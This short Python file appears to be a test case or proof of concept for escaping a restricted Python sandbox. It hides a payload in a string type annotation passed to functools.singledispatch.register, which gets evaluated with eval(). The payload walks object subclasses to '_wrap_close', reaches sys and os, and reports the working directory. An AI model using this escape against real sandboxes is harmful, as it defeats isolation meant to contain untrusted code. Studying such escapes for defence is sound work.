"""singledispatch.register reads the dispatch type from a *string* annotation, which
typing.get_type_hints evaluates with eval(): unverified code with unrestricted attribute access."""
import functools

found = []


@functools.singledispatch
def f(x):
    return 0


def entry(inputs):
    @f.register
    def _(x: "found.append([c for c in ().__class__.__base__.__subclasses__()"
             " if c.__name__ == '_wrap_close'][0].__init__.__globals__['sys'])"):
        return 1

    return "ESCAPED: " + found[0].modules["os"].getcwd()
